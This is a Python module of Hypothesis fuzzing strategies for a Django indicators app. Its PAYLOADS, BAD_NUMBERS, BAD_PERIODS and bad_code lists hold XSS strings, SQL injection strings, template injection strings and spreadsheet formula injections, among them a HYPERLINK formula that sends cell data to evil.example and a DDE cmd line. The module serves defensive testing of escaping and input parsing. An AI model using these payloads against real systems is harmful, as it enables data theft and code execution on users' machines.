"""Hypothesis strategies shared by the fuzz tests: hostile text (HTML, quotes, RTL, emoji,
zero-width characters, SQL, spreadsheet formulas) and hostile numbers and periods."""

from __future__ import annotations

import re
from decimal import Decimal

from django.utils.html import escape
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase as HypothesisTestCase

from indicators.models import Indicator, Target, TargetPlan, TargetSource
from tests.base import BaseTestCase

# Each fuzz test stays small: the whole fuzz suite runs in well under a minute.
FUZZ = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    # No shrinking: a failing example is reported as found, and a failure costs seconds,
    # not minutes of replaying pages.
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
FUZZ_FEW = settings(FUZZ, max_examples=12)


class FuzzTestCase(HypothesisTestCase, BaseTestCase):
    """BaseTestCase's users and units; each Hypothesis example runs in its own
    transaction, rolled back afterwards."""

    plan: TargetPlan
    target: Target

    @classmethod
    def create_plan_with_target(cls, *, year: int) -> None:
        """A manual plan of Hoài Nhơn for `year` with one target (Hoài Đức, online 70 %),
        for the tests that fuzz the targets pages."""
        cls.plan = TargetPlan.objects.create(
            issuer=cls.hoai_nhon, year=year, title="Kế hoạch thử", applies_rule=False
        )
        cls.target = Target.objects.create(
            plan=cls.plan,
            unit=cls.hoai_duc,
            indicator=Indicator.objects.get(code="online"),
            value=Decimal("70"),
            source=TargetSource.MANUAL,
            reason="lý do",
        )


# Every fuzzed name is wrapped in these two marks, which the generated text never
# contains: each place the name is shown is then the text between a pair of marks.
OPEN, CLOSE = "Ⓐ", "Ⓩ"

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "<b>x</b>",
    'O\'Brien & "Co"',
    "'; DROP TABLE units_administrativeunit; --",
    "1 OR 1=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+cmd",
    "-1+1",
    "@SUM(A1:A9)",
    "\u202eRTL override",
    "\u200f\u200ezero\u200bwidth\u200d\ufeff",
    "😀🇻🇳👩‍👩‍👧",
    "Hoà Thuỷ Đức",
    "{{ 7|add:1 }}{% now 'Y' %}",
    "%(name)s %s {0}",
    "\\u003c\\x3c",
    "x" * 120,
)

# Letters a spreadsheet would start a formula with.
FORMULA_STARTS = ("=", "+", "-", "@")

_text_chars = st.characters(
    blacklist_categories=("Cs", "Cc", "Cn", "Co"),
    blacklist_characters=(OPEN, CLOSE),
)


def hostile_text(max_size: int = 140, *, min_size: int = 1) -> st.SearchStrategy[str]:
    """Mixed payloads and random Unicode (no control characters, which XML refuses)."""
    piece = st.one_of(
        st.sampled_from(PAYLOADS),
        st.text(_text_chars, min_size=1, max_size=25),
    )
    return (
        st.lists(piece, min_size=1, max_size=4)
        .map(lambda parts: "".join(parts)[:max_size])
        .filter(lambda text: len(text.strip()) >= min_size)
    )


def formula_text(max_size: int = 140) -> st.SearchStrategy[str]:
    """Text that a spreadsheet would run as a formula."""
    return st.tuples(st.sampled_from(FORMULA_STARTS), hostile_text(max_size - 1)).map("".join)


# Unit types an administrator could type in the admin: ordinary ones and hostile ones,
# so a unit's full name ("<type> <name>") can itself start like a formula.
UNIT_TYPE_NAMES = (
    "Phường", "Xã", "Thị trấn", "=1+1", "+cmd", "-1+1", "@SUM(A1)", '=HYPERLINK("x")'
)  # fmt: skip
UNIT_TYPES = st.sampled_from(UNIT_TYPE_NAMES)


def payload_chunks(max_size: int) -> list[str]:
    """Every payload, in order, packed into as few texts of at most `max_size` characters
    as they fit in: explicit examples that put each payload through a sink whatever
    Hypothesis happens to draw (140: four texts, 300: two)."""
    chunks, current = [], ""
    for payload in PAYLOADS:
        if current and len(current) + len(payload) > max_size:
            chunks.append(current)
            current = ""
        current += payload
    chunks.append(current)
    return chunks


BAD_NUMBERS = (
    "1" + "0" * 30,
    "1e9",
    "1E30",
    "-1",
    "-0,5",
    "1,5",
    "1.5",
    "NaN",
    "Infinity",
    "-inf",
    "0x10",
    "1_000",
    "１２３",
    "1.087.000.000.000",
    "99999999999999999999999",
    "'; DROP TABLE indicators_unitfigures; --",
    "1 OR 1=1",
    "=1+1",
    "<script>",
    " ",
)

BAD_PERIODS = (
    "2023-M13-ND09",
    "2023-M00-ND09",
    "2023-Q5-CAL",
    "2023-H3-CAL",
    "1999-Y-CAL",
    "0000-Y-CAL",
    "9999-Y-ND09",
    "99999-Y-ND09",
    "2023-13-45..2023-01-01",
    "2023-06-30..2023-01-01",
    "0001-01-01..9999-12-31",
    "2023-02-29..2023-03-01",
    "2023-H1-XYZ",
    "'; DROP TABLE indicators_period; --",
    "2023-H1-CAL' OR '1'='1",
    "<script>alert(1)</script>",
    "",
    "-1",
    "1" + "0" * 30,
)


def bad_number() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(BAD_NUMBERS),
        st.integers(min_value=10**9 + 1, max_value=10**40).map(str),
        st.integers(max_value=-1).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(str),
        hostile_text(40),
    )


def bad_period() -> st.SearchStrategy[str]:
    years = st.integers(min_value=0, max_value=12000)
    days = st.integers(min_value=0, max_value=40)
    return st.one_of(
        st.sampled_from(BAD_PERIODS),
        st.builds(
            "{}-M{:02d}-ND09".format,
            st.integers(min_value=0, max_value=99999),
            st.integers(min_value=0, max_value=99),
        ),
        st.builds(
            "{:04d}-{:02d}-{:02d}..{:04d}-{:02d}-{:02d}".format,
            years,
            days,
            days,
            years,
            days,
            days,
        ),
        hostile_text(40),
    )


def bad_code() -> st.SearchStrategy[str]:
    """Unit codes and other short filter values."""
    return st.one_of(
        st.sampled_from(("0", "-1", "99999", "1" + "0" * 30, "543' OR '1'='1", "%", "_", "*")),
        hostile_text(20),
    )


_MARKED = re.compile(f"{OPEN}([^{OPEN}{CLOSE}]*){CLOSE}")


def marked(name: str) -> str:
    return f"{OPEN}{name}{CLOSE}"


def shown_names(text: str) -> list[str]:
    """The text between each pair of marks."""
    return _MARKED.findall(text)


def escaped_forms(name: str) -> set[str]:
    """How an escaped name may read in HTML: as typed, or upper/lower-cased by a filter."""
    return {escape(variant) for variant in (name, name.upper(), name.lower())}


# --------------------------------------------------------------------------- file formats


def mutated_copy() -> st.SearchStrategy[tuple[bytes, str]]:
    """(bytes, name) of one committed copy of the Hoài Nhơn appendix (.xls, .ods, CSV)
    with a few bytes overwritten and possibly cut short: a damaged file of each reader's
    format, deep enough in to get past the signature."""
    from tests.io.file_formats import APPENDIX_COPIES, copy_bytes

    def damage(name: str, edits: list[tuple[float, int]], keep: float) -> tuple[bytes, str]:
        data = bytearray(copy_bytes(name))
        for where, byte in edits:
            data[8 + int(where * (len(data) - 9))] = byte
        return bytes(data[: max(16, int(len(data) * keep))]), name

    return st.builds(
        damage,
        st.sampled_from(sorted(APPENDIX_COPIES)),
        st.lists(st.tuples(st.floats(min_value=0, max_value=1), st.integers(0, 255)), max_size=6),
        st.one_of(st.just(1.0), st.floats(min_value=0.05, max_value=1)),
    )


def _ods_cell(value: object, repeat: int, span: int) -> str:
    from xml.sax.saxutils import escape as xml_escape
    from xml.sax.saxutils import quoteattr

    attrs = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    attrs += f' table:number-columns-spanned="{span}"' if span > 1 else ""
    if value is None:
        return f"<table:table-cell{attrs}/>"
    if isinstance(value, int | float):
        return (
            f'<table:table-cell{attrs} office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )
    text = str(value)
    formula = f" table:formula={quoteattr('of:' + text)}" if text.startswith("=") else ""
    return (
        f'<table:table-cell{attrs}{formula} office:value-type="string">'
        f"<text:p>{xml_escape(text)}</text:p></table:table-cell>"
    )


def ods_table(rows: list[list[tuple[object, int, int]]], row_repeats: list[int]) -> bytes:
    """An .ods of one sheet: each cell (value, columns repeated, columns spanned), each
    row repeated as given."""
    from tests.io.file_formats import ods_with

    body = "".join(
        f'<table:table-row table:number-rows-repeated="{repeat}">'
        + "".join(_ods_cell(*cell) for cell in row)
        + "</table:table-row>"
        for row, repeat in zip(rows, row_repeats + [1] * len(rows), strict=False)
    )
    return ods_with(f'<table:table table:name="Số liệu">{body}</table:table>')
